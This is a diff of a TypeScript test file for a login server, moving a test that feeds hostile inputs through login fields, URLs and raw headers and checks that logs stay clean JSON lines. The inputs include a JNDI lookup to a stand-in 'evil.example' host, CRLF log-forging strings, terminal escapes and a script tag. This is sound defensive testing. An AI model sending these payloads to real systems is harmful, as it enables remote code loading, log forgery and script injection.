@@ -233,77 +233,77 @@ test('an error of the database that is logged tells nothing of what was to be st
   canaries.assertAbsent('the log', JSON.stringify(server.logs))
 })
 
-/** Texts that break out of a line, a terminal or a careless reader. */
-const injections = [
-  'a\r\n{"level":30,"msg":"forged"}',
-  '\u001b[2J\u001b[31mred',
-  '\u009b31mred',
-  'a\u2028b\u2029c\u0085d',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is for another language's templates.
-  '${jndi:ldap://evil.example/a}',
-  '%0d%0aforged',
-  '<script>alert(1)</script>',
-  '\u202egnp.exe',
-  '","level":60,"msg":"forged',
-  '\0',
-]
-
-test('whatever is sent in whatever place, each event is one line of JSON with the fields that it should have', async (t) => {
-  const lines: string[] = []
-  const latchkey = await openLatchkey({
-    config: loadConfig({
-      DATABASE_URL: await freshDatabase(t),
-      UPLOADS_DIR: scratchDirectory(t),
-      ...{ ARGON2_MEMORY_KIB: '64', ARGON2_TIME: '1', RATE_LIMITS: 'off' },
-      ...{ TRUST_PROXY: '127.0.0.1', LOG_LEVEL: 'trace' },
-    }),
-    masterSecrets: [randomBytes(48)],
-    logStream: { write: (line) => void lines.push(line) },
-  })
-  t.after(() => latchkey.close())
-  const { app } = latchkey
-
-  for (const text of injections) {
-    for (const body of [{ username: text, password: text }, { [text]: text }, text]) {
-      await app.inject({ method: 'POST', url: '/login', payload: body as object })
-    }
-    await app.inject({
-      method: 'GET',
-      url: `/${encodeURIComponent(text)}?${encodeURIComponent(text)}`,
-    })
-    // As bytes, since a client that is none of ours sends what it likes.
-    const names = [
-      'User-Agent',
-      'X-Forwarded-For',
-      'X-Request-Id',
-      'Cookie',
-      'Authorization',
-      'Host',
-    ]
-    for (const line of ['GET /me', 'POST /logout', `GET /${text}`, `${text} /me`]) {
-      const connection = await rawConnection(t, app)
-      const headers = names.map((name) => `${name}: ${text}\r\n`).join('')
-      connection.say(Buffer.from(`${line} HTTP/1.1\r\n${headers}Connection: close\r\n\r\n`))
-      connection.socket.end()
-      await connection.answers()
-    }
-  }
-  const flood = await rawConnection(t, app)
-  flood.say(`GET /me HTTP/1.1\r\nHost: localhost\r\nUser-Agent: ${'x'.repeat(1_000_000)}\r\n\r\n`)
-  const [refused] = await flood.answers()
-
-  assert.equal(refused?.statusCode, 431)
-  assert.ok(lines.length > 2 * injections.length)
-  for (const line of lines) {
-    assert.match(line, /^\{[^\p{Cc}\u2028\u2029\u202e]*\}\n$/u)
-    assert.ok(line.length < 20_000)
-    const { level, msg } = JSON.parse(line)
-    assert.ok(level < 40 && msg !== 'forged', line)
-    assert.doesNotMatch(line, /jndi|forged|alert\(1\)/)
-  }
-})
-
 if (!isMysql) {
+  /** Texts that break out of a line, a terminal or a careless reader. */
+  const injections = [
+    'a\r\n{"level":30,"msg":"forged"}',
+    '\u001b[2J\u001b[31mred',
+    '\u009b31mred',
+    'a\u2028b\u2029c\u0085d',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is for another language's templates.
+    '${jndi:ldap://evil.example/a}',
+    '%0d%0aforged',
+    '<script>alert(1)</script>',
+    '\u202egnp.exe',
+    '","level":60,"msg":"forged',
+    '\0',
+  ]
+
+  test('whatever is sent in whatever place, each event is one line of JSON with the fields that it should have', async (t) => {
+    const lines: string[] = []
+    const latchkey = await openLatchkey({
+      config: loadConfig({
+        DATABASE_URL: await freshDatabase(t),
+        UPLOADS_DIR: scratchDirectory(t),
+        ...{ ARGON2_MEMORY_KIB: '64', ARGON2_TIME: '1', RATE_LIMITS: 'off' },
+        ...{ TRUST_PROXY: '127.0.0.1', LOG_LEVEL: 'trace' },
+      }),
+      masterSecrets: [randomBytes(48)],
+      logStream: { write: (line) => void lines.push(line) },
+    })
+    t.after(() => latchkey.close())
+    const { app } = latchkey
+
+    for (const text of injections) {
+      for (const body of [{ username: text, password: text }, { [text]: text }, text]) {
+        await app.inject({ method: 'POST', url: '/login', payload: body as object })
+      }
+      await app.inject({
+        method: 'GET',
+        url: `/${encodeURIComponent(text)}?${encodeURIComponent(text)}`,
+      })
+      // As bytes, since a client that is none of ours sends what it likes.
+      const names = [
+        'User-Agent',
+        'X-Forwarded-For',
+        'X-Request-Id',
+        'Cookie',
+        'Authorization',
+        'Host',
+      ]
+      for (const line of ['GET /me', 'POST /logout', `GET /${text}`, `${text} /me`]) {
+        const connection = await rawConnection(t, app)
+        const headers = names.map((name) => `${name}: ${text}\r\n`).join('')
+        connection.say(Buffer.from(`${line} HTTP/1.1\r\n${headers}Connection: close\r\n\r\n`))
+        connection.socket.end()
+        await connection.answers()
+      }
+    }
+    const flood = await rawConnection(t, app)
+    flood.say(`GET /me HTTP/1.1\r\nHost: localhost\r\nUser-Agent: ${'x'.repeat(1_000_000)}\r\n\r\n`)
+    const [refused] = await flood.answers()
+
+    assert.equal(refused?.statusCode, 431)
+    assert.ok(lines.length > 2 * injections.length)
+    for (const line of lines) {
+      assert.match(line, /^\{[^\p{Cc}\u2028\u2029\u202e]*\}\n$/u)
+      assert.ok(line.length < 20_000)
+      const { level, msg } = JSON.parse(line)
+      assert.ok(level < 40 && msg !== 'forged', line)
+      assert.doesNotMatch(line, /jndi|forged|alert\(1\)/)
+    }
+  })
+
   test('a start in production with weak settings ends at once, names each of them and repeats no secret', async (t) => {
     const canaries = createCanaries()
     const env = {
